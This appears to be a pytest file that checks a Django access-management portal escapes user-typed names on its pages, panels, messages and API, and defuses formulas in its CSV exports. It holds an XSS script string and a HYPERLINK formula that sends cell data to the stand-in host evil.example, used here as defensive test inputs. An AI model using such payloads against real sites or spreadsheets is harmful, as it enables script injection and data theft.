"""Every name a person can type is shown as text: a group, user, organization, permission set,
resource or key named ``<script>…</script>`` or ``"'&<>`` appears escaped in every page and
panel (every GET URL of the project, walked as in the policy test), and in the messages; the CSV
exports keep such names as text and never hand a spreadsheet a formula."""

import csv
import io

import pytest

from accounts import services as account_services
from groups import services as group_services
from groups.models import Resource

from .policy import POLICY
from .urlwalk import call, concrete_url, url_patterns

SCRIPT = "<script>alert('x')</script>"
QUOTES = "Q \"'&<> Q"
RAW = ("<script>alert", "\"'&<>")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def _hostile(world):
    acme = world.acme
    account_services.organization_update(
        organization=acme.organization, name=f"{SCRIPT} Org", actor=None
    )
    group_services.group_update(group=acme.group, display_name=f"{SCRIPT} G", actor=None)
    group_services.group_update(group=acme.child, display_name=QUOTES, actor=None)
    account_services.user_update(
        user=acme.member_of_group, first_name=SCRIPT, last_name=QUOTES, actor=None
    )
    group_services.permission_set_update(
        permission_set=acme.permission_set, name=f"{SCRIPT} set", actor=None
    )
    Resource.objects.filter(pk=acme.resource.pk).update(name=f"{SCRIPT} res")
    acme.key.name = f"{SCRIPT} key"
    acme.key.save()
    for obj in (acme.group, acme.child, acme.organization, acme.member_of_group):
        obj.refresh_from_db()


def _html_pages():
    for pattern in url_patterns():
        methods = POLICY.get(pattern.key, {})
        if "GET" in methods and pattern.namespace != "api":
            yield pattern


def test_every_page_and_panel_shows_hostile_names_as_text(world):
    _hostile(world)
    checked = 0
    for pattern in _html_pages():
        url = concrete_url(pattern.route, world)
        for persona in ("admin", "operator"):
            for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
                response = call(world.client(persona), "GET", url, **headers)
                if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
                    continue
                body = response.content.decode()
                for raw in RAW:
                    assert raw not in body, f"{url} as {persona} {headers}: raw {raw!r}"
                checked += 1
    assert checked > 40  # the walk really saw the pages


@pytest.mark.parametrize(
    "path",
    [
        "groups/",
        "groups/{group}/",
        "groups/{group}/permissions/",
        "groups/{group}/access/",
        "groups/{group}/settings/",
        "groups/{group}/members/{user}/remove/",
        "users/{user}/",
        "resources/",
        "settings/api-keys/",
    ],
)
def test_hostile_names_appear_escaped(world, path):
    _hostile(world)
    acme = world.acme
    url = "/t/acme/portal/access-management/" + path.format(
        group=acme.group.public_id, user=acme.member_of_group.public_id
    )
    body = world.client("admin").get(url).content.decode()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in body
    assert "<script>alert" not in body


def test_messages_and_search_results_escape_names(world):
    _hostile(world)
    acme = world.acme
    ann = world.client("admin")
    base = f"/t/acme/portal/access-management/groups/{acme.group.public_id}/"
    response = ann.post(
        base + "settings/",
        {"display_name": f"{SCRIPT} G2", "description": SCRIPT},
        HTTP_HX_REQUEST="true",
        follow=True,
    )
    body = response.content.decode()
    assert "renamed from" in body and "<script>alert" not in body
    response = ann.get(base + "members/add/", {"q": "script"}, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert "&lt;script&gt;" in body and "<script>alert" not in body


def test_api_answers_names_as_json_never_html(world):
    _hostile(world)
    from django.test import Client

    client = Client(HTTP_AUTHORIZATION=f"Bearer {world.acme.token}")
    response = client.get("/t/acme/api/v1/groups")
    assert response["Content-Type"].startswith("application/json")
    assert any(group["name"] == f"{SCRIPT} G" for group in response.json()["data"])


def _csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_csv_exports_keep_hostile_names_as_text_and_run_no_formula(world):
    _hostile(world)
    acme = world.acme
    account_services.user_update(
        user=acme.member_of_group, first_name=FORMULA, last_name=QUOTES, actor=None
    )
    group_services.group_update(group=acme.child, display_name=f"@{SCRIPT}", actor=None)
    base = "/t/acme/portal/access-management/"
    ann = world.client("admin")
    members = _csv_cells(ann.get(f"{base}groups/{acme.group.public_id}/members/export.csv"))
    log = _csv_cells(ann.get(f"{base}audit-log/export.csv"))
    cells = [cell for row in members + log for cell in row]
    assert f"'{FORMULA} {QUOTES}" in cells  # the person's name, whole and defused
    assert f"'@{SCRIPT}" in [row[8] for row in log[1:]]  # a target name as it was, defused
    assert any(SCRIPT in cell for cell in cells)  # text, not HTML-escaped into &lt;
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
